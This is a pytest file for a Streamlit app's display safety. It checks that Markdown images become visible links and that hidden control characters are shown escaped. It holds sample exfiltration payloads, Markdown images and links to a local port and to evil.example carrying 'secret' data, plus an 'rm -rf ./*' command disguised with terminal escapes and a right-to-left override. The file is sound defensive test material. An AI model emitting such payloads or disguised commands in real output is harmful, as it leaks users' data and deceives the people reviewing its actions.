"""The web app shows what runs (Streamlit AppTest, no browser).

Hidden characters in a card, a preview, a tool row or a message are drawn escaped;
Markdown from people, models and tools has no image left (it became a link showing
its target) and every link shows its destination; the edit preview is made only for
arguments the tool accepts, and invalid ones are flagged.
(tests/test_ui_browser_display.py checks the same in Chromium: no request leaves.)
"""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from gatehouse.ui.web.safe_text import IMAGE_MARK, label, markdown
from tests.support.app_page import app_page
from tests.support.clean_env import offline_settings

APP = str(Path(__file__).resolve().parent.parent / "ui" / "web" / "app.py")
TIMEOUT = 30
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return offline_settings(tmp_path, monkeypatch, "workspace")


def send(text: str) -> AppTest:
    at = app_page(TIMEOUT).run()
    at.chat_input(key="prompt").set_value(text).run()
    return at


def card_key(at: AppTest) -> str:
    return next(b.key for b in at.button if b.key.endswith("-submit")).removesuffix("-submit")


def images_and_hidden_links(text: str) -> list[str]:
    """What a CommonMark renderer would load or hide: images, links not showing their target."""
    found = []
    for block in PARSER.parse(text):
        children = block.children or []
        for k, tok in enumerate(children):
            if tok.type == "image":
                found.append(f"image {tok.attrGet('src')}")
            if tok.type == "link_open":
                href = tok.attrGet("href")
                end = next(m for m in range(k, len(children)) if children[m].type == "link_close")
                near = "".join(c.content for c in children[k + 1 : end + 3])
                if href not in near and unquote(href) not in near:
                    found.append(f"link {href}")
    return found


ATTACKS = [
    "![status](http://127.0.0.1:8614/px.gif?d=secret)",
    "[ref]: http://127.0.0.1:8614/r.gif?d=1\n\nlook ![x][ref] and ![ref] and ![ref][]",
    "[docs.python.org](http://evil.example/steal) and [t][r]\n\n[r]: http://evil.example/r",
    "| a | b |\n|---|---|\n| ![c](http://127.0.0.1:8614/cell.gif) | [d](http://evil.example/d) |",
    '> ![quoted](http://127.0.0.1:8614/q.gif)\n- ![item](<http://127.0.0.1:8614/a b.gif> "t")',
    "[![badge](http://127.0.0.1:8614/b.svg)](http://evil.example/outer)",
    "`![in code](http://c)` then ![after](http://127.0.0.1:8614/after.gif) ``a ` ![y](http://127.0.0.1:8614/y)``",
    "![a](http://127.0.0.1:8614/(paren).gif) ![b](http://127.0.0.1:8614/x.gif 'title (with) parens')",
    "\\![escaped](http://fine) ![![nested](http://127.0.0.1:8614/n1.gif)](http://127.0.0.1:8614/n2.gif)",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_markdown_has_no_image_and_every_link_shows_its_target(text: str) -> None:
    safe = markdown(text)
    assert images_and_hidden_links(safe) == [], safe


def test_markdown_keeps_ordinary_text_and_code_as_written() -> None:
    plain = (
        "# Title\n\nSome **bold** text, a list:\n\n- one\n- two\n\n```python\nprint('![x](y)')\n```"
    )
    assert markdown(plain) == plain
    assert (
        markdown("see <http://a.example> or http://b.example")
        == "see <http://a.example> or http://b.example"
    )
    shown = markdown("![status](http://127.0.0.1:8614/px.gif?d=secret)")
    assert shown.startswith(IMAGE_MARK) and "`http://127.0.0.1:8614/px.gif?d=secret`" in shown
    assert markdown("x\u202ey\x1b[2J") == "x\\u202ey\\x1b[2J"
    assert label("**[t](http://x)**") == r"\*\*\[t\]\(http://x\)\*\*"


def test_person_and_model_markdown_is_drawn_without_images(env: Path) -> None:
    at = send("![status](http://127.0.0.1:8614/px.gif?d=secret) hello")
    drawn = [m.value for m in at.markdown]
    # The person's own message is drawn as written: its text, not read as Markdown or
    # HTML (one HTML block with the text escaped), so nothing in it loads.
    said = [m for m in drawn if 'class="gh-said"' in m]
    assert said == [
        '<div class="gh-said" style="white-space: pre-wrap; overflow-wrap: anywhere">'
        "![status](http://127.0.0.1:8614/px.gif?d=secret) hello</div>"
    ], said
    # The model's Markdown (the demo quotes the message) loads no image either.
    theirs = [m for m in drawn if "px.gif" in m and m not in said]
    assert theirs and all(images_and_hidden_links(m) == [] for m in theirs), theirs


def test_card_preview_and_edit_field_show_hidden_characters_escaped(env: Path) -> None:
    at = send("run: rm -rf ./* #\x1b[2K\r$ ls -la \u202eexe")
    codes = [c.value for c in at.code]
    assert any("$ rm -rf ./* #\\x1b[2K\\x0d$ ls -la \\u202eexe" in c for c in codes), codes
    assert not any("\x1b" in c or "\u202e" in c for c in codes)
    card = card_key(at)
    at.radio(key=f"{card}-0-choice").set_value("edit").run()
    field = at.text_area(key=f"{card}-0-args").value
    assert "\u202e" not in field and "\\u202e" in field
    # The escapes are JSON: the field parses back to exactly the call's arguments.
    assert json.loads(field)["command"] == "rm -rf ./* #\x1b[2K\r$ ls -la \u202eexe"
    # Rejected, the call is a history row: its arguments escaped there too.
    at.radio(key=f"{card}-0-choice").set_value("reject").run()
    at.button(key=f"{card}-submit").click().run()
    rows = [m.value for m in at.markdown if "gh-tool" in m.value and "run_command" in m.value]
    assert rows and "\\u001b[2K" in rows[-1] and "\\u202eexe" in rows[-1], rows
    assert not any("\x1b" in m.value or "\u202e" in m.value for m in at.markdown)


def test_invalid_edited_arguments_are_flagged_not_previewed(env: Path) -> None:
    (env / "todo.md").write_text("old line\n")
    at = send("write todo.md: buy milk")
    card = card_key(at)
    at.radio(key=f"{card}-0-choice").set_value("edit").run()

    def diffs() -> list[str]:
        return [c.value for c in at.code if c.language == "diff"]

    for bad, said in (
        ('{"path": 5, "content": "x"}', "path"),
        ('{"path": "todo.md", "content": ', "not valid JSON"),
        ("[1]", "JSON object"),
        ('{"path": "../out.md", "content": "x"}', ""),
    ):
        at.text_area(key=f"{card}-0-args").input(bad).run()
        errors = [e.value for e in at.error if "Invalid arguments" in e.value]
        if (
            not said
        ):  # a path outside the workspace may be valid arguments, refused later: no claim here
            continue
        assert errors and said in errors[0], (bad, errors)
        assert diffs() == [], bad
        assert "preview of the edited call" not in [c.value for c in at.caption]
    at.text_area(key=f"{card}-0-args").input('{"path": "todo.md", "content": "EDITED\\n"}').run()
    assert not [e for e in at.error if "Invalid arguments" in e.value]
    assert diffs() and "+EDITED" in diffs()[0]
